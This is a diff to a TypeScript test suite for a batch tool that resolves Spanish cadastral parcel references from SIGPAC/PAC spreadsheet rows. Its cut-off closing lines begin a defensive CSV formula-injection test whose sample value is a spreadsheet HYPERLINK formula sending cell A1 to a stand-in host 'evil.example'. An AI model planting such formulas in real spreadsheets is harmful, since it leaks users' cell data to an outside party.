@@ -140,6 +140,40 @@ describe('runBatchFile', () => {
     expect(byRow.get(5)!.reason).toMatch(/'poligono'.*1 to 999/);
   });
 
+  it('looks up rows of a SIGPAC/PAC sheet naming the municipality by name or INE code, asking the street directory once for the province, and writes them back', async () => {
+    const input = writeInput('pac.csv', [
+      'Provincia,Municipio,Polígono,Parcela,Recinto',
+      'SEGOVIA,MELQUE DE CERCOS,1,5,1',
+      'Segovia,Melque de Cercos,4,5051,2',
+      'segovia,40125,1,5,3',
+      '40,40125,4,5051,4',
+      '40,Navas,1,5,5',
+      '40,Villanueva de Nadie,1,5,6',
+      'Navarra,Pamplona,6,1838,7',
+    ].join('\n'));
+    const directoryBefore = api.callejero.requests.filter((url) => url.includes('ConsultaMunicipio')).length;
+    const output = path.join(dir, 'pac.out.csv');
+    const outcome = await runBatchFile({ input, output, find });
+
+    expect(outcome.counts).toEqual({ total: 7, done: 7, found: 4, notFound: 1, failed: 2 });
+    const rows = parse(readFileSync(output, 'utf8'), { columns: true }) as Record<string, string>[];
+    expect(rows.map((r) => [r.row, r.status, r.refCatastral, r.in_Municipio, r.in_Recinto])).toEqual([
+      ['1', 'found', '40146A00100005', 'MELQUE DE CERCOS', '1'],
+      ['2', 'found', SAMPLE_A, 'Melque de Cercos', '2'],
+      ['3', 'found', '40146A00100005', '40125', '3'],
+      ['4', 'found', SAMPLE_A, '40125', '4'],
+      ['5', 'failed', '', 'Navas', '5'],
+      ['6', 'not_found', '', 'Villanueva de Nadie', '6'],
+      ['7', 'failed', '', 'Pamplona', '7'],
+    ]);
+    const byRow = new Map(outcome.results.map((r) => [r.row, r]));
+    expect(byRow.get(5)).toMatchObject({ code: 'VALIDATION_ERROR' });
+    expect(byRow.get(5)!.reason).toContain('NAVAS DE ORO');
+    expect(byRow.get(7)).toMatchObject({ code: 'CNV_COVERAGE' });
+    // Segovia's municipalities were listed once for the whole batch (INE codes and the unknown name), not per row.
+    expect(api.callejero.requests.filter((url) => url.includes('ConsultaMunicipio')).length - directoryBefore).toBe(1);
+  });
+
   it('writes a CSV no spreadsheet runs as formulas: the user\'s =, +, @ cells get a leading quote, negative coordinates stay numbers, and the result reads back as a batch', async () => {
     const hyperlink = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';
     const input = writeInput('formulas.csv', [
